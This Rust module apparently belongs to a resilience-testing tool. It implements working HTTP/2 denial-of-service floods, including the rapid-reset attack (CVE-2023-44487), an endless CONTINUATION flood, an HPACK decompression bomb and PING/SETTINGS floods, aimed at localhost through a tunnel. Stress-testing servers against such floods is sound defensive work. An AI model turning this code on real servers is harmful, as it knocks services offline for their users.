//! Attacks by volume: connections that send all they can.

use std::future::Future;
use std::pin::Pin;
use std::sync::Arc;
use std::sync::atomic::AtomicU64;

use tokio::io::AsyncReadExt as _;
use tokio::net::TcpStream;

use crate::attacks::Field;
use crate::frames::{self, CONTINUATION, DATA, HEADERS, PING, RST_STREAM, SETTINGS, frame};
use crate::sockets::{open, send, tunnel};

type Boxed = Pin<Box<dyn Future<Output = ()> + Send>>;

/// So many frames go out at once.
const BATCH: u32 = 500;

const FIELDS: &[(&str, &str)] = &[
    (":method", "GET"),
    (":scheme", "http"),
    (":authority", "localhost"),
    (":path", "/"),
    (
        "authorization",
        "Bearer 0123456789abcdefghijklmnopqrstuvwxyz",
    ),
];

/// Requests with a long cookie, one after the other, each answered by a 502: nobody listens there.
pub fn long_heads(field: Field, sent: Arc<AtomicU64>) -> Boxed {
    Box::pin(async move {
        let cookie = "c".repeat(200 * 1024);
        let request = format!(
            "GET http://127.0.0.1:1/ HTTP/1.1\r\nHost: 127.0.0.1:1\r\nCookie: a={cookie}\r\n\r\n"
        );
        loop {
            let mut stream = open(field).await;
            send(&mut stream, request.as_bytes(), &sent).await;
            let mut answer = Vec::new();
            // Whether it was read to its end does not matter here.
            drop(stream.read_to_end(&mut answer).await);
        }
    })
}

/// Requests that are reset at once (CVE-2023-44487).
pub fn resets(field: Field, sent: Arc<AtomicU64>) -> Boxed {
    flood(field, sent, |stream| {
        let request = frames::headers(stream, FIELDS, true);
        [request, frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())].concat()
    })
}

/// A field section that never ends.
pub fn continuations(field: Field, sent: Arc<AtomicU64>) -> Boxed {
    flood(field, sent, |stream| match stream {
        1 => frame(HEADERS, 0, 1, b"\x82\x84\x86"),
        _ => frame(CONTINUATION, 0, 1, b"\0\x01a\x01b"),
    })
}

/// Pings.
pub fn pings(field: Field, sent: Arc<AtomicU64>) -> Boxed {
    flood(field, sent, |_| frame(PING, 0, 0, b"01234567"))
}

/// Settings that change with every frame.
pub fn settings(field: Field, sent: Arc<AtomicU64>) -> Boxed {
    flood(field, sent, |stream| {
        let size = (4096 + stream % 2).to_be_bytes();
        frame(SETTINGS, 0, 0, &[&[0, 1][..], &size].concat())
    })
}

/// Content without a byte in it.
pub fn empty_data(field: Field, sent: Arc<AtomicU64>) -> Boxed {
    flood(field, sent, |stream| match stream {
        1 => frames::headers(1, FIELDS, false),
        _ => frame(DATA, 0, 1, b""),
    })
}

/// Requests without end, none of which is answered.
pub fn streams(field: Field, sent: Arc<AtomicU64>) -> Boxed {
    flood(field, sent, |stream| frames::headers(stream, FIELDS, true))
}

/// A few bytes that stand for megabytes: a long field in the table, then nothing but its index.
pub fn hpack_bomb(field: Field, sent: Arc<AtomicU64>) -> Boxed {
    flood(field, sent, |stream| {
        let mut block = vec![0x82, 0x84, 0x86];
        if stream == 1 {
            // A literal with incremental indexing, 4 000 bytes long (RFC 7541 section 6.2.1).
            block.extend([0x40, 1, b'a', 0x7f, 0xa1, 0x1e]);
            block.extend([b'c'; 4000]);
        } else {
            block.extend([0xbe; 16_000]);
        }
        frame(HEADERS, 0x5, stream, &block)
    })
}

/// Sends the frames of one stream after the other over an HTTP/2 connection in a tunnel.
fn flood(field: Field, sent: Arc<AtomicU64>, frames_of: fn(u32) -> Vec<u8>) -> Boxed {
    Box::pin(async move {
        let mut connection: Option<(TcpStream, u32)> = None;
        loop {
            let (stream, next) = match &mut connection {
                Some(open) => open,
                None => {
                    let mut stream = tunnel(field).await;
                    send(&mut stream, &frames::opening(), &sent).await;
                    connection.insert((stream, 1))
                }
            };
            let batch: Vec<u8> = (0..BATCH)
                .flat_map(|at| frames_of(*next + 2 * at))
                .collect();
            *next += 2 * BATCH;
            if !send(stream, &batch, &sent).await || *next > LAST_STREAM {
                connection = None;
            }
        }
    })
}

/// Some way before the last number that a stream may have.
const LAST_STREAM: u32 = 1 << 30;
